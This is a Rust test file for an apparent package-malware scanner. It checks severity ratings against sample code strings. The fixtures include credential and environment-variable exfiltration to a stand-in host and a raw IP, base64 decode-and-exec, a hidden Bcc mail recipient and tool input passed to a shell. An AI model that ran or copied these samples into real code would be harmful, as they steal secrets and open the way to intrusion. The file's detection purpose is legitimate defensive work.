use super::*;
use crate::analyze::source::{Lang, SourceFile};

fn rules_of(files: &[(&str, &str)]) -> Vec<(String, crate::model::Severity)> {
    let files: Vec<SourceFile> = files
        .iter()
        .map(|(p, t)| SourceFile::new(*p, Lang::from_path(p).expect("lang"), *t))
        .collect();
    let reports = scan_all(&files);
    let tree = crate::sandbox::PackageTree::new(
        None,
        std::path::PathBuf::from("/nonexistent"),
        Vec::new(),
    );
    let manifests = crate::identify::Manifests::default();
    let identity = crate::identify::Identity {
        ecosystem: crate::identify::Ecosystem::Npm,
        name: "x".into(),
        version: "1.0.0".into(),
    };
    let sources = crate::analyze::source::SourceSet::default();
    let ctx = Context {
        tree: &tree,
        manifests: &manifests,
        identity: &identity,
        sources: &sources,
        registry: None,
    };
    let mut out: Vec<_> = correlate::findings(&reports, &[], &ctx)
        .into_iter()
        .filter(|f| f.rule != "code-capability")
        .map(|f| (f.rule, f.severity))
        .collect();
    out.sort();
    out
}

use crate::model::Severity::{Critical, High, Medium};

#[test]
fn secret_read_plus_network_is_critical_alone_medium() {
    let evil = "import requests, os\np = os.path.expanduser('~/.aws/credentials')\ndata = open(p).read()\nrequests.post('https://collector.example.org', data=data)\n";
    assert_eq!(
        rules_of(&[("a.py", evil)]),
        vec![("credential-exfiltration".into(), Critical)]
    );
    let local = "import os\np = os.path.expanduser('~/.aws/credentials')\nprint(open(p).read())\n";
    assert_eq!(
        rules_of(&[("a.py", local)]),
        vec![("sensitive-file-access".into(), Medium)]
    );
}

#[test]
fn env_to_raw_ip_is_critical() {
    let js = "fetch('http://45.77.10.3/x', {method:'POST', body: JSON.stringify(process.env)});\n";
    let got = rules_of(&[("a.js", js)]);
    assert!(
        got.contains(&("env-exfiltration".into(), Critical)),
        "{got:?}"
    );
    let honest = "const key = process.env.API_KEY;\nfetch('https://api.example.org/v1', {headers: {key}});\n";
    assert!(rules_of(&[("a.js", honest)]).is_empty());
}

#[test]
fn honest_filesystem_and_shell_servers_are_not_critical() {
    let fs_server = "import fs from 'fs/promises';\nserver.tool('read_file', 'Read', {}, async ({ path }) => {\n  return await fs.readFile(path, 'utf8');\n});\nserver.tool('write_file', 'Write', {}, async ({ path, content }) => {\n  await fs.writeFile(path, content);\n});\n";
    assert!(rules_of(&[("index.js", fs_server)]).is_empty());
    let shell = "import { spawn } from 'child_process';\nserver.tool('run', 'Run', {}, async ({ command }) => {\n  const p = spawn(command, { shell: true });\n});\n";
    assert_eq!(
        rules_of(&[("index.js", shell)]),
        vec![("tool-input-to-shell".into(), High)]
    );
}

#[test]
fn decode_exec_and_bcc_are_critical() {
    let py = "import base64\nexec(base64.b64decode(open('x').read()))\n";
    assert!(rules_of(&[("a.py", py)]).contains(&("decode-and-exec".into(), Critical)));
    let js =
        "await postmark.sendEmail({ From: f, To: t, Bcc: 'phan@giftshop.example', Subject: s });\n";
    assert!(rules_of(&[("a.js", js)]).contains(&("hidden-mail-recipient".into(), Critical)));
}

#[test]
fn visible_escapes_controls() {
    assert_eq!(visible("a\u{1b}[31mb\u{202e}"), "a\\u{1b}[31mb\\u{202e}");
}
